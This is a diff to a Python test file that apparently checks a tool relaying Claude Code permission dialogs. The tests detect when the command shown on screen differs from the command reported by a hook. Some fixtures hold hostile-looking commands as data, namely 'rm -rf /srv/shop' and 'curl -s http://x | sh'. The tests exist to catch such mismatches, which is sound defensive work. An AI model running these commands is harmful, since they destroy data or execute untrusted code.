@@ -16,6 +16,7 @@ from tests.support.waiting import wait_for
 from tests.trust.test_compared_exactly import drawn
 
 from atlasbridge.adapters.claude import permission_hook
+from atlasbridge.channels.templates import render_buttons
 from atlasbridge.core.detection.events import OutputReceived, StructuredEventReceived
 from atlasbridge.core.detection.structured import covers, fits
 from atlasbridge.core.host.terminal.attach_socket import is_inside
@@ -27,8 +28,8 @@ def told(text: str, kind: SubjectKind = SubjectKind.COMMAND, target: str = "") -
     return Subject(kind, text, "/home/me", SubjectSource.HOOK, complete=True, target=target)
 
 
-def hook(text: str) -> StructuredEventReceived:
-    return StructuredEventReceived("permission", "Bash", "its hook", told(text))
+def hook(text: str, note: str = "") -> StructuredEventReceived:
+    return StructuredEventReceived("permission", "Bash", "its hook", told(text), note)
 
 
 @pytest.mark.parametrize("message", ["l", "approve Bash: ls", "git status", "rm -rf /tmp/x"])
@@ -222,3 +223,54 @@ def test_what_such_a_dialog_leaves_out_is_known_from_its_events() -> None:
     play << Raised("multiple_choice")
     assert not play.prompt.asked_whole
     assert play.prompt.subject is None or not play.prompt.subject.complete
+
+
+def tall(rows: list[str], height: int, width: int, asks: str = "Do you want to proceed?") -> str:
+    """A dialog of Claude Code, of which a small window shows the end."""
+    choices = ["", f" {asks}", " ❯ 1. Yes", "   2. Yes, and don't ask again for: sh", "   3. No", "", " Esc to cancel"]
+    wrapped = [row[at : at + width - 4] for row in rows for at in range(0, max(1, len(row)), width - 4)]
+    lines = ["─" * width, " Bash command", "", *(f"   {row}" for row in wrapped), *choices]
+    return "\x1b[2J\x1b[H" + "\r\n".join(lines[-height:])
+
+
+@pytest.mark.parametrize(("height", "width"), [(24, 80), (15, 40)])
+@pytest.mark.parametrize("count", [1, 15, 19, 25, 62, 200])
+def test_a_command_of_any_length_is_whole_from_its_hook(count: int, height: int, width: int) -> None:
+    lines = [f"install --number {number} --into /srv/shop/{number}" for number in range(count)]
+    note = "Install every part of the shop, one after the other"
+    shown = tall([*lines, note], height, width)
+    play = Playbook(POLLING, "claude", height, width) >> hook("\n".join(lines), note) >> shown >> 2.0
+    play << Raised("multiple_choice")
+    subject = play.prompt.subject
+    assert subject is not None and subject.text == "\n".join(lines) and subject.complete and subject.source == "hook"
+    assert play.prompt.asked_whole and "disagrees" not in play.prompt.constraints
+
+
+@pytest.mark.parametrize("change", [-1, 0, 100])
+def test_a_long_command_whose_end_is_another_one_is_not_believed(change: int) -> None:
+    """One line of what is shown is not in what was told: it is said so, and only No is offered."""
+    lines = [f"install --number {number} --into /srv/shop" for number in range(60)]
+    shown = [*lines]
+    shown[change if change < 60 else 55] = "rm -rf /srv/shop"
+    shown = shown if change else [*lines, "rm -rf /srv/shop"]
+    play = Playbook(POLLING, "claude", 24, 80) >> hook("\n".join(lines)) >> tall(shown, 24, 80) >> 2.0
+    play << Raised("multiple_choice")
+    assert not play.prompt.asked_whole and play.prompt.constraints["disagrees"] is True
+    assert [button.value for button in render_buttons(play.prompt) if button.value] == ["3"]
+
+
+def test_a_dialog_that_begins_on_the_screen_is_not_taken_for_the_end_of_a_longer_one() -> None:
+    told_text = "curl -s http://x | sh\nnpm run build --workspace shop"
+    play = Playbook(POLLING, "claude", 40, 80) >> hook(told_text) >> drawn("npm run build --workspace shop") >> 0.4
+    play << Raised("multiple_choice")
+    assert play.prompt.subject is not None and play.prompt.subject.source == "screen"
+
+
+@pytest.mark.parametrize("count", [3, 20, 200, 5000])
+def test_an_edit_of_any_length_is_whole_from_its_hook(count: int) -> None:
+    text = "\n".join(f"+line {number} of the file" for number in range(count))
+    told_edit = told(text, SubjectKind.EDIT, "/srv/app.py")
+    rows = [f"{number + 1} line {number} of the file" for number in range(count)]
+    play = Playbook(POLLING, "claude", 24, 80) >> StructuredEventReceived("permission", "Write", "its hook", told_edit)
+    play >> tall(["app.py", *rows], 24, 80, "Do you want to create app.py?") >> 2.0 << Raised("multiple_choice")
+    assert play.prompt.subject is not None and play.prompt.subject.text == text and play.prompt.asked_whole
